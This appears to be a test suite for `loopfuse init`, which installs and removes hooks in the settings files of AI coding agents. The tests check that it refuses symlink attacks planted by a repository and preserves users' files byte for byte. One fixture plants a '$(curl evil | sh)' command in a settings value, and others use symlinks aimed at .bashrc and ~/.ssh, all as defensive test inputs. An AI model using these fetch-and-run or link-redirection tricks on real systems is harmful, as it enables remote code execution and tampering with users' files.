"""`loopfuse init` and the user's files: never a write through a link a repository
committed, a dotfiles link followed to the user's own file, the user's text kept as it
was written (numbers, escapes, Gemini CLI's comments), another tool's hook kept, and the
user's original surviving any sequence of init, re-init and remove, byte for byte
(issue 30 findings 4 and 12, issue 29 section 5)."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, initialize, invariant, rule

from loopfuse.cli.init import main

SCRIPT = "/opt/venv/bin/loopfuse"
BASHRC = "export PATH=$PATH:/opt/tools\n"
PATHS = {
    "claude-code": Path(".claude/settings.json"),
    "codex": Path("codex-home/hooks.json"),
    "gemini": Path(".gemini/settings.json"),
}


def run(
    home: Path, *args: str, cwd: Path | None = None, executable: str = SCRIPT
) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    env = {"HOME": str(home), "CODEX_HOME": str(home / "codex-home")}
    status = main(
        list(args), env=env, cwd=cwd or home, stdout=out, stderr=err, executable=executable
    )
    return status, out.getvalue(), err.getvalue()


def _project(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A checkout with a ``.claude`` folder, and the user's ``.bashrc`` beside it."""
    home = tmp_path / "home"
    project = home / "src" / "checkout"
    (project / ".claude").mkdir(parents=True)
    bashrc = home / ".bashrc"
    bashrc.write_text(BASHRC)
    return home, project, bashrc


# --- finding 4: never a write through a link the repository committed ---------------------


def test_a_backup_link_committed_by_the_repository_is_not_written_through(
    tmp_path: Path,
) -> None:
    home, project, bashrc = _project(tmp_path)
    settings_file = project / ".claude" / "settings.json"
    settings_file.write_text('{"env": {"X": "$(curl evil | sh)"}}')
    (project / ".claude" / "settings.json.loopfuse-backup").symlink_to("../../../.bashrc")
    before = settings_file.read_bytes()
    status, _, err = run(home, "--agent", "claude-code", "--project", cwd=project)
    assert status == 2
    assert "loopfuse-backup" in err
    assert "not a regular file" in err
    assert bashrc.read_text() == BASHRC
    assert settings_file.read_bytes() == before


def test_a_link_at_the_old_temporary_name_is_not_written_through(tmp_path: Path) -> None:
    home, project, bashrc = _project(tmp_path)
    settings_file = project / ".claude" / "settings.json"
    settings_file.write_text("{}")
    (project / ".claude" / f".settings.json.{os.getpid()}.tmp").symlink_to(bashrc)
    assert run(home, "--agent", "claude-code", "--project", cwd=project)[0] == 0
    assert bashrc.read_text() == BASHRC
    assert "hooks" in json.loads(settings_file.read_text())


@pytest.mark.parametrize("linked", ["file", "folder"])
def test_a_link_in_a_project_is_refused_and_its_target_untouched(
    tmp_path: Path, linked: str
) -> None:
    home, project, bashrc = _project(tmp_path)
    if linked == "file":
        (project / ".claude" / "settings.json").symlink_to(bashrc)
        target = bashrc
    else:
        (project / ".claude").rmdir()
        elsewhere = home / ".ssh"
        elsewhere.mkdir()
        (project / ".claude").symlink_to(elsewhere)
        target = elsewhere / "settings.json"
    status, _, err = run(home, "--agent", "claude-code", "--project", cwd=project)
    assert status == 2
    assert "symbolic link" in err
    assert bashrc.read_text() == BASHRC
    assert linked == "file" or not target.exists()
    assert (project / ".claude" / "settings.json").is_symlink() == (linked == "file")


def test_a_fifo_as_the_settings_file_is_refused_without_waiting(tmp_path: Path) -> None:
    path = tmp_path / PATHS["claude-code"]
    path.parent.mkdir()
    os.mkfifo(path)
    done = subprocess.run(  # a process of its own: a hang is a failure, not a stuck suite
        [sys.executable, "-m", "loopfuse", "init", "--agent", "claude-code"],
        env={**os.environ, "HOME": str(tmp_path)},
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2
    assert b"not a regular file" in done.stderr


# --- finding 12: the user's own link, text, numbers, escapes, and other tools' hooks ------


def test_a_dotfiles_link_is_followed_and_its_target_gets_the_hook(tmp_path: Path) -> None:
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    real = dotfiles / "claude-settings.json"
    real.write_text('{"model": "opus"}\n')
    link = tmp_path / PATHS["claude-code"]
    link.parent.mkdir()
    link.symlink_to(real)
    status, out, _ = run(tmp_path, "--agent", "claude-code")
    assert status == 0, out
    assert link.is_symlink()
    assert link.resolve() == real
    assert "PreToolUse" in json.loads(real.read_text())["hooks"]
    assert link.with_name("settings.json.loopfuse-backup").read_text() == '{"model": "opus"}\n'
    assert run(tmp_path, "--agent", "claude-code", "--remove")[0] == 0
    assert link.is_symlink()
    assert real.read_text() == '{"model": "opus"}\n'


def test_a_dangling_dotfiles_link_is_refused_saying_so(tmp_path: Path) -> None:
    link = tmp_path / PATHS["claude-code"]
    link.parent.mkdir()
    link.symlink_to(tmp_path / "dotfiles" / "missing.json")
    status, _, err = run(tmp_path, "--agent", "claude-code")
    assert status == 2
    assert "does not exist" in err
    assert not (tmp_path / "dotfiles").exists()


def test_numbers_and_escapes_are_kept_as_the_user_wrote_them(tmp_path: Path) -> None:
    path = tmp_path / PATHS["claude-code"]
    path.parent.mkdir()
    original = '{"big": 1e400, "price": 1.50, "zero": -0.0, "odd": "\\ud800", "e": "\\u00e9"}'
    path.write_text(original)
    status, _, err = run(tmp_path, "--agent", "claude-code")
    assert (status, err) == (0, "")
    text = path.read_text()
    for written in ("1e400", "1.50", "-0.0", '"\\ud800"', '"\\u00e9"'):
        assert written in text
    assert "Infinity" not in text
    assert run(tmp_path, "--agent", "claude-code", "--remove")[0] == 0
    assert path.read_text() == original


@pytest.mark.parametrize("literal", ["NaN", "Infinity", "-Infinity"])
def test_a_number_json_parse_refuses_is_refused_not_rewritten(tmp_path: Path, literal: str) -> None:
    path = tmp_path / PATHS["claude-code"]
    path.parent.mkdir()
    path.write_text(f'{{"x": {literal}}}')
    status, _, err = run(tmp_path, "--agent", "claude-code")
    assert status == 2
    assert err.startswith("loopfuse init: error: ")
    assert "not valid JSON" in err
    assert path.read_text() == f'{{"x": {literal}}}'


def test_a_command_that_cannot_be_written_is_a_clear_error(tmp_path: Path) -> None:
    status, _, err = run(tmp_path, "--agent", "claude-code", executable="/opt/\udcff/loopfuse")
    assert status == 2
    assert err.startswith("loopfuse init: error: ")
    assert not (tmp_path / PATHS["claude-code"]).exists()


OTHER_TOOLS = [
    "notify-send loopfuse hook done",
    "sh -c 'loopfuse hook --agent claude-code'",
    "/usr/bin/audit --then loopfuse hook --agent claude-code",
    "/opt/loopfuse hook --agent claude-code --no-such-flag",
    "/opt/venv/bin/loopfuse scan --agent claude-code",
]


@pytest.mark.parametrize("command", OTHER_TOOLS)
def test_another_tools_hook_that_mentions_loopfuse_hook_is_kept(
    tmp_path: Path, command: str
) -> None:
    path = tmp_path / PATHS["claude-code"]
    path.parent.mkdir()
    theirs = {"matcher": "Bash", "hooks": [{"type": "command", "command": command}]}
    original = json.dumps({"hooks": {"PreToolUse": [theirs]}}, indent=2)
    path.write_text(original)
    assert run(tmp_path, "--agent", "claude-code")[0] == 0
    assert json.loads(path.read_text())["hooks"]["PreToolUse"][0] == theirs
    assert run(tmp_path, "--agent", "claude-code", "--remove")[0] == 0
    assert path.read_text() == original


def test_our_entries_are_recognised_by_any_install_path_and_flags(tmp_path: Path) -> None:
    path = tmp_path / PATHS["claude-code"]
    path.parent.mkdir()
    old = "/old/venv/bin/python -m loopfuse hook --agent claude-code --mode refuse"
    ours = {"matcher": "*", "hooks": [{"type": "command", "command": old}]}
    path.write_text(json.dumps({"hooks": {"PreToolUse": [ours]}}))
    assert run(tmp_path, "--agent", "claude-code")[0] == 0
    (group,) = json.loads(path.read_text())["hooks"]["PreToolUse"]
    assert group["hooks"][0]["command"] == f"{SCRIPT} hook --agent claude-code"


# --- issue 29 section 5: Gemini CLI's comments, Codex's --end-session ---------------------

GEMINI_WITH_COMMENTS = """{
  // the look
  "theme": "GitHub", /* until I find better */
  "hooks": {
    // an audit of every shell call
    "BeforeTool": [
      {"matcher": "run_shell_command", "hooks": [{"type": "command", "command": "audit"}]}
    ]
  },
  "url": "https://example.com//not-a-comment"
}
"""


def test_gemini_settings_with_comments_are_edited_and_their_comments_kept(
    tmp_path: Path,
) -> None:
    """Gemini CLI reads its settings through strip-json-comments (`//` and `/* */`)."""
    path = tmp_path / PATHS["gemini"]
    path.parent.mkdir()
    path.write_text(GEMINI_WITH_COMMENTS)
    status, _, err = run(tmp_path, "--agent", "gemini")
    assert (status, err) == (0, "")
    text = path.read_text()
    for comment in ("// the look", "/* until I find better */", "// an audit"):
        assert comment in text
    assert "https://example.com//not-a-comment" in text
    assert "loopfuse hook --agent gemini" in text
    assert run(tmp_path, "--agent", "gemini", "--remove")[0] == 0
    assert path.read_text() == GEMINI_WITH_COMMENTS


def test_comments_are_refused_where_the_cli_does_not_read_them(tmp_path: Path) -> None:
    path = tmp_path / PATHS["codex"]
    path.parent.mkdir()
    path.write_text('{\n  // no\n  "hooks": {}\n}\n')
    status, _, err = run(tmp_path, "--agent", "codex")
    assert status == 2
    assert "comment" in err


def test_codex_is_told_about_end_session_only_when_it_is_asked_for(tmp_path: Path) -> None:
    status, out, _ = run(tmp_path, "--agent", "codex")
    assert status == 0
    assert "--end-session" not in out
    status, out, _ = run(tmp_path, "--agent", "codex", "--end-session")
    assert status == 0
    assert "--end-session has no effect" in out
    hooks = json.loads((tmp_path / PATHS["codex"]).read_text())["hooks"]
    for groups in hooks.values():
        assert "--end-session" not in groups[0]["hooks"][0]["command"]


# --- issue 29 section 5: the user's original survives any sequence -----------------------


@pytest.mark.parametrize("agent", list(PATHS))
def test_install_reinstall_with_options_then_remove_leaves_the_file_byte_for_byte(
    tmp_path: Path, agent: str
) -> None:
    path = tmp_path / PATHS[agent]
    path.parent.mkdir(parents=True)
    original = '{\n    "theme": "dark",\n    "hooks": {"Stop": []}\n}'  # 4 spaces, no newline
    path.write_text(original)
    backup = path.with_name(path.name + ".loopfuse-backup")
    assert run(tmp_path, "--agent", agent)[0] == 0
    assert run(tmp_path, "--agent", agent, "--mode", "refuse", "--end-session")[0] == 0
    assert backup.read_text() == original  # the original, not the first install
    assert run(tmp_path, "--agent", agent, "--remove")[0] == 0
    assert path.read_text() == original
    assert not backup.exists()


@pytest.mark.parametrize("agent", list(PATHS))
def test_install_then_remove_where_there_was_no_file_leaves_no_file(
    tmp_path: Path, agent: str
) -> None:
    path = tmp_path / PATHS[agent]
    assert run(tmp_path, "--agent", agent)[0] == 0
    assert run(tmp_path, "--agent", agent, "--mode", "note")[0] == 0
    status, out, _ = run(tmp_path, "--agent", agent, "--remove")
    assert status == 0, out
    assert not path.exists()
    assert not path.with_name(path.name + ".loopfuse-backup").exists()


def test_remove_keeps_what_the_user_changed_since_install(tmp_path: Path) -> None:
    path = tmp_path / PATHS["claude-code"]
    path.parent.mkdir()
    path.write_text('{"model": "opus"}')
    run(tmp_path, "--agent", "claude-code")
    edited = path.read_text().replace('"model": "opus"', '"model": "sonnet"')
    path.write_text(edited)
    assert run(tmp_path, "--agent", "claude-code", "--remove")[0] == 0
    assert json.loads(path.read_text()) == {"model": "sonnet"}
    backup = path.with_name("settings.json.loopfuse-backup")
    assert backup.read_text() == '{"model": "opus"}'  # still the original


ORIGINALS = [
    None,
    "",
    "{}",
    '{"model":"opus","hooks":{"PreToolUse":[{"matcher":"Bash","hooks":[{"type":"command",'
    '"command":"audit"}]}]}}',
    '{\r\n\t"theme": "dark",\r\n\t"n": 1.0e5\r\n}\r\n',
    '{\n  "hooks": {\n    "Stop": [],\n    "PreToolUse": []\n  }\n}\n',
    '{\n  "a": [\n  ],\n  "hooks": {\n  }\n}\n',
]


class InitSequences(RuleBasedStateMachine):
    """Any sequence of init, re-init with other options, dry runs and remove: the backup,
    when there is one, is the user's original; after a remove the file is the original,
    byte for byte (or absent, if it was)."""

    def __init__(self) -> None:
        super().__init__()
        import tempfile

        self.home = Path(tempfile.mkdtemp(prefix="init-seq-"))
        self.installed = False

    @initialize(agent=st.sampled_from(list(PATHS)), original=st.sampled_from(ORIGINALS))
    def start(self, agent: str, original: str | None) -> None:
        self.agent = agent
        self.path = self.home / PATHS[agent]
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.original = original
        if original is not None:
            self.path.write_bytes(original.encode())

    @rule(
        mode=st.sampled_from([None, "warn", "refuse", "note"]),
        end=st.booleans(),
        dry=st.booleans(),
    )
    def install(self, mode: str | None, end: bool, dry: bool) -> None:
        args = ["--agent", self.agent]
        args += ["--mode", mode] if mode else []
        args += ["--end-session"] if end else []
        before = self.path.read_bytes() if self.path.exists() else None
        status, out, err = run(self.home, *args, *(["--dry-run"] if dry else []))
        assert (status, err) == (0, ""), (out, err)
        if dry:
            assert (self.path.read_bytes() if self.path.exists() else None) == before
        else:
            self.installed = True
            assert "loopfuse hook --agent" in self.path.read_text()

    @rule()
    def remove(self) -> None:
        status, out, err = run(self.home, "--agent", self.agent, "--remove")
        assert (status, err) == (0, ""), (out, err)
        if self.installed:
            now = self.path.read_bytes() if self.path.exists() else None
            wanted = None if self.original is None else self.original.encode()
            assert now == wanted, (now, wanted)
        self.installed = False

    @invariant()
    def the_backup_is_the_original(self) -> None:
        if not hasattr(self, "path"):
            return
        backup = self.path.with_name(self.path.name + ".loopfuse-backup")
        if backup.exists():
            assert self.original is not None
            assert backup.read_bytes() == self.original.encode()


InitSequences.TestCase.settings = settings(
    max_examples=40,
    stateful_step_count=8,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
test_init_sequences_keep_the_users_original = InitSequences.TestCase


_SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(10**20), 10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=8),
)
_VALUES = st.recursive(
    _SCALARS,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=8,
)
_OTHER_HOOK = {"type": "command", "command": "/usr/bin/audit"}
_SETTINGS = st.fixed_dictionaries(
    {},
    optional={
        "model": _VALUES,
        "env": st.dictionaries(st.text(max_size=5), _VALUES, max_size=3),
        "hooks": st.dictionaries(
            st.sampled_from(["PreToolUse", "PostToolUse", "Stop", "BeforeTool"]),
            st.lists(st.just({"matcher": "Bash", "hooks": [_OTHER_HOOK]}), max_size=2),
        ),
    },
)
_STYLES = st.sampled_from(
    [
        {"indent": None},
        {"indent": None, "separators": (",", ":")},
        {"indent": 2},
        {"indent": 4},
        {"indent": "\t"},
    ]
)


@pytest.mark.parametrize("agent", list(PATHS))
def test_any_settings_in_any_style_come_back_byte_for_byte(tmp_path: Path, agent: str) -> None:
    counter = iter(range(10**6))

    def check(settings_value: dict[str, Any], style: dict[str, Any], crlf: bool) -> None:
        home = tmp_path / f"h{next(counter)}"
        path = home / PATHS[agent]
        path.parent.mkdir(parents=True)
        text = json.dumps(settings_value, ensure_ascii=False, **style)
        if crlf:
            text = text.replace("\n", "\r\n")
        path.write_bytes(text.encode())
        assert run(home, "--agent", agent)[0] == 0
        installed = json.loads(path.read_text())
        for key, value in settings_value.items():
            if key != "hooks":
                assert installed[key] == value
        assert run(home, "--agent", agent, "--mode", "refuse")[0] == 0
        assert run(home, "--agent", agent, "--remove")[0] == 0
        assert path.read_bytes() == text.encode()

    settings(max_examples=25, deadline=None)(given(_SETTINGS, _STYLES, st.booleans())(check))()
